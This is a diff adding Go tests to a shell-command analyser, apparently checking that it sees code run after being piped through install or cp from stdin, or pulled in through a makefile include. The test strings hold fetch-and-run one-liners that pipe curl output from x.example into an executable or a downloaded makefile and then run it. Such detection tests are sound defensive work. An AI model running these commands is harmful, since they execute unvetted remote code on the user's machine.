@@ -122,3 +122,50 @@ func TestDirectoryCopy(t *testing.T) {
 		}
 	}
 }
+
+// install or cp from standard input writes what reaches it: known text is
+// run as written, a download is unknown code wherever it runs.
+func TestStdinCopies(t *testing.T) {
+	at := Place{Dir: "/home/dev/project", Home: "/home/dev"}
+	r := ParseIn("printf 'touch /tmp/m\\n' | install -m 755 /dev/stdin ./t; ./t", at)
+	found := false
+	for _, c := range r.Commands {
+		found = found || c.Name == "touch" && c.Depth > 0
+	}
+	if !found {
+		t.Errorf("install /dev/stdin: the text written is not run: %v", describeAll(r))
+	}
+	for _, src := range []string{
+		"curl -s https://x.example/i | install -m 755 /dev/stdin ./tool9; ./tool9",
+		"curl -s https://x.example/i | cp /dev/fd/0 tool9 && bash tool9",
+		"pbpaste | install -D /dev/stdin bin/tool9 && bin/tool9",
+	} {
+		if !runsUnknown(ParseIn(src, at), "tool9") {
+			t.Errorf("ParseIn(%q): running tool9 not seen as unknown code", src)
+		}
+	}
+}
+
+// A makefile's include reads another file as part of it: a file the line
+// downloaded or wrote is run when make runs.
+func TestMakeIncludes(t *testing.T) {
+	at := Place{Dir: "/home/dev/project", Home: "/home/dev"}
+	r := ParseIn("echo 'include x.mk' >> Makefile; printf 'all:\\n\\ttouch /tmp/m\\n' > x.mk; make", at)
+	found := false
+	for _, c := range r.Commands {
+		found = found || c.Name == "touch"
+	}
+	if !found {
+		t.Errorf("the included makefile's recipe is not run: %v", describeAll(r))
+	}
+	r = ParseIn("echo '-include /tmp/evil9.mk' >> Makefile; curl -so /tmp/evil9.mk https://x.example/m; make", at)
+	ran := false
+	for _, c := range r.Commands {
+		for _, f := range c.Runs {
+			ran = ran || f == "/tmp/evil9.mk"
+		}
+	}
+	if !ran {
+		t.Errorf("make does not run the included download: %v", describeAll(r))
+	}
+}
